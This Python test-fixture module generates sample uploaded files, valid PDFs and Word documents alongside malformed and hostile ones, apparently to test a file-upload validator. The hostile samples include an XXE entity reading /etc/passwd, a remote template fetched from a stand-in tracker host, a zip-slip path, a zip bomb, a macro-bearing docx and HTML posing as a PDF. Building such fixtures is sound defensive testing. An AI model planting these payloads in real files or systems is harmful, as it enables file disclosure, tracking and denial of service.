"""Files that people hand in, well made and otherwise; built afresh, and the same every time.

Each function returns the bytes of one file. What a file is called, and what type the browser
claims for it, is up to the test: a mislabelled file is one of these under another's name.
"""

import io
import re
import zipfile
from collections.abc import Mapping
from datetime import UTC, datetime
from functools import cache

import docx
from docx.document import Document
from fpdf import FPDF

PDF = "application/pdf"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

_TEXT = "The advocate meets the survivor where the survivor feels safe."
_MADE_AT = datetime(2026, 9, 1, 9, 0, tzinfo=UTC)
_MEGABYTE = 1024 * 1024
_LOOKS_OF_TABLES = re.compile(rb'<w:style w:type="table"(?! w:default).*?</w:style>', re.DOTALL)

_BODY = "word/document.xml"
_BODY_RELATIONSHIPS = "word/_rels/document.xml.rels"
_SETTINGS = "word/settings.xml"
_SETTINGS_RELATIONSHIPS = "word/_rels/settings.xml.rels"
_CONTENT_TYPES = "[Content_Types].xml"
_RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MACRO_RELATIONSHIP = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
_NO_RELATIONSHIPS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b"</Relationships>"
)

# The first bytes of an OLE compound file: old Word, a macro project, an encrypted .docx.
_OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(1016)


def a_pdf(text: str = _TEXT, *, pages: int = 1) -> bytes:
    """A PDF with the text on every page. The text has to fit Latin-1."""
    return bytes(_pdf(text, pages).output())


def an_encrypted_pdf(text: str = _TEXT, *, password: str = "hazel") -> bytes:
    """A PDF that asks for a password before it shows anything."""
    pdf = _pdf(text, pages=1)
    pdf.set_encryption(owner_password=f"{password}-owner", user_password=password)
    return bytes(pdf.output())


def a_pdf_without_text() -> bytes:
    """A PDF such as a scanner makes: there is something to see, and no text in it."""
    pdf = _pdf("", pages=1)
    pdf.rect(20, 20, 160, 90, style="F")
    return bytes(pdf.output())


def a_truncated_pdf() -> bytes:
    """A PDF whose upload broke off half-way."""
    whole = a_pdf(pages=3)
    return whole[: len(whole) // 2]


def empty_docx() -> Document:
    """A Word document to write into."""
    return docx.Document(io.BytesIO(_template()))


@cache
def _template() -> bytes:
    """The library's own, without a hundred looks of tables: reading them takes 0.2 s each time."""
    packed = io.BytesIO()
    docx.Document().save(packed)
    parts = _parts(packed.getvalue())
    for name in ("word/styles.xml", "word/stylesWithEffects.xml"):
        parts[name] = _LOOKS_OF_TABLES.sub(b"", parts[name])
    return _zip(parts)


def a_docx(text: str = _TEXT) -> bytes:
    """A Word document; each line of the text is a paragraph."""
    document = empty_docx()
    for line in text.splitlines():
        document.add_paragraph(line)
    packed = io.BytesIO()
    document.save(packed)
    return _zip(_parts(packed.getvalue()))


def a_docx_with_macro(text: str = _TEXT) -> bytes:
    """A Word document that carries a macro project, under a type that allows it."""
    parts = _parts(a_docx(text))
    _change(
        parts,
        _CONTENT_TYPES,
        f"{DOCX}.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    _change(
        parts,
        _CONTENT_TYPES,
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    _relate(parts, _BODY_RELATIONSHIPS, f'Type="{_MACRO_RELATIONSHIP}" Target="vbaProject.bin"')
    return _zip({**parts, "word/vbaProject.bin": _OLE})


def a_docx_with_remote_template(address: str = "http://tracker.example/t.dotx") -> bytes:
    """A Word document that fetches its template from an address as soon as it is opened."""
    parts = _parts(a_docx())
    _change(
        parts,
        _SETTINGS,
        "<w:defaultTabStop",
        '<w:attachedTemplate r:id="rIdAdded"/><w:defaultTabStop',
    )
    parts[_SETTINGS_RELATIONSHIPS] = _NO_RELATIONSHIPS
    _relate(
        parts,
        _SETTINGS_RELATIONSHIPS,
        f'Type="{_RELATIONSHIP}/attachedTemplate" Target="{address}" TargetMode="External"',
    )
    return _zip(parts)


def a_docx_with_entities() -> bytes:
    """A Word document whose XML includes a file of the machine that reads it (XXE)."""
    parts = _parts(a_docx("PLACE"))
    document_type = '<!DOCTYPE d [<!ENTITY outside SYSTEM "file:///etc/passwd">]>'
    _change(parts, _BODY, "<w:document", f"{document_type}<w:document")
    _change(parts, _BODY, "PLACE", "&outside;")
    return _zip(parts)


def a_docx_with_a_path_outside() -> bytes:
    """A Word document with a part that would be unpacked above the folder it is unpacked in."""
    return _zip({**_parts(a_docx()), "../../outside.txt": b"here"})


def a_zip_bomb_docx(*, unpacked_megabytes: int = 200) -> bytes:
    """A small Word document whose text is enormous once unpacked."""
    parts = _parts(a_docx("PLACE"))
    before, after = parts.pop(_BODY).split(b"PLACE")
    packed = io.BytesIO(_zip(parts))
    with (
        zipfile.ZipFile(packed, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open(_entry(_BODY), "w", force_zip64=True) as body,
    ):
        body.write(before)
        for _ in range(unpacked_megabytes):
            body.write(b"a" * _MEGABYTE)
        body.write(after)
    return packed.getvalue()


def a_docx_without_its_text() -> bytes:
    """A zip with a Word document's list of contents, and no document."""
    parts = _parts(a_docx())
    del parts[_BODY]
    return _zip(parts)


def a_zip() -> bytes:
    """A plain zip archive; its first bytes are those of a Word document."""
    return _zip({"notes.txt": _TEXT.encode()})


def an_old_word_file() -> bytes:
    """The beginning of a .doc; a .docx with a password begins the same way."""
    return _OLE


def a_web_page() -> bytes:
    """HTML with a script, to be handed in as something else."""
    return b"<!doctype html><title>Work</title><script>document.title = 'ran'</script>"


def a_web_page_posing_as_pdf() -> bytes:
    """HTML behind the first bytes of a PDF."""
    return b"%PDF-1.7\n" + a_web_page()


def a_program() -> bytes:
    """The beginning of a Windows program."""
    return b"MZ\x90\x00" + bytes(508)


def _pdf(text: str, pages: int) -> FPDF:
    pdf = FPDF(format="A4")
    pdf.set_creation_date(_MADE_AT)
    pdf.set_font("Helvetica", size=12)
    for _ in range(pages):
        pdf.add_page()
        pdf.multi_cell(0, text=text)
    return pdf


def _parts(archive: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def _change(parts: dict[str, bytes], name: str, old: str, new: str) -> None:
    before = parts[name]
    parts[name] = before.replace(old.encode(), new.encode())
    if parts[name] == before:
        raise ValueError(f"{name} has no {old!r} to change.")


def _relate(parts: dict[str, bytes], relationships: str, relationship: str) -> None:
    _change(
        parts,
        relationships,
        "</Relationships>",
        f'<Relationship Id="rIdAdded" {relationship}/></Relationships>',
    )


def _zip(parts: Mapping[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, content in parts.items():
            archive.writestr(_entry(name), content)
    return packed.getvalue()


def _entry(name: str) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(name, _MADE_AT.timetuple()[:6])
    entry.compress_type = zipfile.ZIP_DEFLATED
    return entry
